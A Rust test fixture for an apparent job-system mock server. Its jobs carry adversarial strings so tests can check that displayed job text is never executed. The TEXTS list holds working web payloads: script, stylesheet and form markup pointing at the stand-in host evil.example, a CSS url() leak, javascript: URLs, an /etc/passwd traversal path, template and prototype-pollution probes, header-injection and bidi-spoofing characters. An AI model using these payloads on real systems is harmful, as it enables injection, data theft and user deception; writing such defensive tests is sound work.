//! Jobs that hold what an attacker would try, for whoever wants to see that none of it works.
//!
//! JESS keeps whatever a user calls a job, and a page that shows it must take it for text and nothing else.
//! These jobs have such a text wherever a job has words: as name, type, subset, arguments, description, state,
//! message, progress and user. They are not among the usual jobs, which are to look like a user's own.

use std::borrow::Cow;

use jess_api::Timestamp;

use super::files::Run;
use super::lifecycle::later;
use super::plan::{Kind, ReplyFormat, Verdict};
use super::wire::{ACCOUNT, JobRecord, NewerKeys, StatusRecord, status_number};

/// The first one's number: below every published one (12,238 in 2020), so that they are the first of a list.
const FIRST_NUMBER: u64 = 9_001;

/// How far apart their submissions are, in milliseconds, the last of them just before the start: they are what
/// one sees first.
const GAP: i64 = 1_000;

/// The largest number that JSON carries to every client unchanged (RFC 8259, section 6).
const LARGEST: i64 = (1 << 53) - 1;

/// Texts, each as a piece and how often it is repeated. None begins or ends with a blank, and none is a state
/// that JESS documents.
const TEXTS: &[(&str, usize)] = &[
    // Markup that would load something, run something, or hide everything.
    (r#"<img src="//evil.example/x.png" onerror="alert(1)">"#, 1),
    (r#"</span></td></tr></table></script><script src="//evil.example/x.js"></script>"#, 1),
    (r#"<svg/onload=alert(1)><iframe srcdoc="<script>alert(1)</script>"></iframe>"#, 1),
    ("<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>", 1),
    ("<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>", 1),
    (r#"<a href="javascript:alert(1)" style="position:fixed;inset:0">Sign in again</a>"#, 1),
    ("<form action=//evil.example/><input name=password autofocus onfocus=alert(1)></form><!--", 1),
    // The way out of an attribute, of a script, of a style.
    (r#"" autofocus tabindex=1 onfocus="alert(1)" onmouseover='alert(1)' x="#, 1),
    ("'); alert(1); //</script>", 1),
    ("red; background: url(//evil.example/leak) } body { display: none", 1),
    // Addresses that are programs, and paths that lead elsewhere.
    ("javascript:alert(document.cookie)", 1),
    ("data:text/html,<script>alert(1)</script>", 1),
    ("../../../etc/passwd%00.csv?ext=x#//evil.example/", 1),
    // What templates, readers of JSON and look-ups by name would take for their own.
    ("{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %> #{7*7}", 1),
    (r#"x","ok":false,"status":"You are signed out","data":null}]}"#, 1),
    ("&lt;script&gt; &amp;amp; &#0; &#x202e; \\u003cscript\\u003e %3Cscript%3E", 1),
    ("__proto__", 1),
    ("constructor", 1),
    // Letters that turn the line round, that are not seen, that stand above each other, that are no letters.
    ("\u{202e}exe.fdp\u{2067}\u{200f} never closed", 1),
    ("שלום \u{202d}עולם 123", 1),
    ("ad\u{200b}min\u{200d}\u{2060}\u{feff}\u{ad}istrator", 1),
    ("Z\u{30d}\u{30e}\u{304}\u{305}\u{33f}\u{316}\u{317}\u{318}\u{319}\u{31c}", 20),
    ("bell\u{7} null\u{0} escape\u{1b}[31m\r\nSet-Cookie: a=b\u{7f}\u{85}\u{2028}\u{2029}\ttab\u{fffe}", 1),
    // What has no place to break, and what has no end.
    ("W", 32),
    ("W", 3_000),
    ("👩🏽\u{200d}🚀🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}", 60),
];

/// How many there are.
pub(crate) const COUNT: usize = TEXTS.len();

/// A hostile job.
pub(crate) struct Hostile<'t> {
    pub(crate) number: u64,
    pub(crate) received: Timestamp,
    text: Cow<'t, str>,
}

impl Hostile<'static> {
    /// The job at a position below [`COUNT`] in a sandbox with this start.
    pub(crate) fn at(position: usize, start: Timestamp) -> Self {
        let (piece, times) = TEXTS.get(position).copied().unwrap_or_default();
        let text = if times == 1 { Cow::Borrowed(piece) } else { Cow::Owned(piece.repeat(times)) };
        let after = u64::try_from(position).unwrap_or_default();
        let before_start = i64::try_from(COUNT.saturating_sub(position)).unwrap_or_default();
        Self { number: FIRST_NUMBER + after, received: later(start, -GAP * before_start), text }
    }

    /// The position of the job of this number, if it is one of these.
    pub(crate) fn position(number: u64) -> Option<usize> {
        let position = usize::try_from(number.checked_sub(FIRST_NUMBER)?).ok()?;
        (position < COUNT).then_some(position)
    }
}

impl Hostile<'_> {
    /// In which form it is listed: the one with the more texts.
    pub(crate) const SHAPE: ReplyFormat = ReplyFormat::Of2021;

    /// The job as it is listed.
    pub(crate) fn record(&self) -> JobRecord<'_> {
        let text = self.text.as_ref();
        JobRecord {
            number: self.number,
            id: ACCOUNT,
            name: text,
            job_type: text,
            subset: text,
            arguments: text,
            status: text,
            message: text,
            progress: Cow::Borrowed(text),
            njobs: LARGEST,
            received: self.received.as_millis(),
            cputime: LARGEST,
            storage_size: LARGEST,
            submission_size: LARGEST,
            result_size: LARGEST,
            username: text,
            newer: Some(NewerKeys {
                description: text,
                accepted: None,
                prepared: None,
                simulated: None,
                collected: None,
                retrieved: None,
                cancelled: None,
            }),
        }
    }

    /// The job's status.
    pub(crate) fn status(&self) -> StatusRecord<'_> {
        StatusRecord {
            job: self.number,
            id: status_number(self.number),
            status: &self.text,
            info: &self.text,
            progress: Cow::Borrowed(&self.text),
            cancel_flag: false,
            completion_time: None,
            last_update: self.received.as_millis(),
        }
    }

    /// What its files are about: they are those of any job that has just come.
    pub(crate) fn run(&self) -> Run<'_> {
        Run {
            number: self.number,
            name: &self.text,
            kind: Kind::Idf,
            cases: 1,
            case_cpu: 0,
            verdict: Verdict::Clean,
            submitted: self.received,
            collected: None,
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use jess_api::{Envelope, Job, JobStatus, read_job_list};
    use proptest::prelude::*;

    use super::*;

    const START: Timestamp = Timestamp::from_millis(1_795_500_000_000);

    /// The job, out of a reply that lists it.
    fn read_back(hostile: &Hostile<'_>) -> Job {
        let envelope =
            Envelope { ok: true, message: Some(hostile.text.to_string()), data: Some([hostile.record()]) };
        let reply = serde_json::to_vec(&envelope).unwrap();
        let list = read_job_list(&reply).unwrap();
        assert_eq!((list.jobs.len(), list.unreadable), (1, 0));
        list.jobs.into_iter().next().unwrap()
    }

    /// The job that a text is everywhere in.
    fn of_text(hostile: &Hostile<'_>) -> Job {
        // As much of a text as says nothing is read as none (`job_Name` can be the text "null").
        let text = Some(hostile.text.to_string()).filter(|text| !matches!(text.trim(), "" | "null"));
        let number = u64::try_from(LARGEST).ok();
        Job {
            account: Some(ACCOUNT),
            name: text.clone(),
            description: text.clone(),
            job_type: text.clone(),
            subset: text.clone(),
            arguments: text.clone(),
            status: JobStatus::from_text(text.as_deref().unwrap_or_default()),
            message: text.clone(),
            cases: number,
            received: Some(hostile.received),
            cpu_seconds: number,
            storage_bytes: number,
            submission_bytes: number,
            result_bytes: number,
            username: text,
            ..Job::with_id(hostile.number.to_string().parse().unwrap())
        }
    }

    #[test]
    fn each_is_read_as_it_is_held() {
        for hostile in (0..COUNT).map(|position| Hostile::at(position, START)) {
            assert_eq!(read_back(&hostile), of_text(&hostile));
        }
    }

    #[test]
    fn each_has_a_number_and_a_text_of_its_own_and_was_there_at_the_start() {
        let all: Vec<_> = (0..COUNT).map(|position| Hostile::at(position, START)).collect();
        let texts: BTreeSet<_> = all.iter().map(|hostile| &hostile.text).collect();
        assert_eq!(texts.len(), COUNT);
        assert!(all.is_sorted_by(|one, next| one.number < next.number && one.received < next.received));
        assert!(all.iter().all(|hostile| hostile.received < START && *hostile.text == *hostile.text.trim()));
        let positions: Vec<_> = (0..FIRST_NUMBER * 2).filter_map(Hostile::position).collect();
        assert_eq!(positions, (0..COUNT).collect::<Vec<_>>());
    }

    proptest! {
        #[test]
        fn whatever_a_job_holds_is_read_as_it_is_held(text: String) {
            // Seven numbers would be read as progress; no other text has any.
            let hostile = Hostile { number: 7, received: START, text: Cow::Owned(format!("x{text}")) };
            prop_assert_eq!(read_back(&hostile), of_text(&hostile));
        }
    }
}
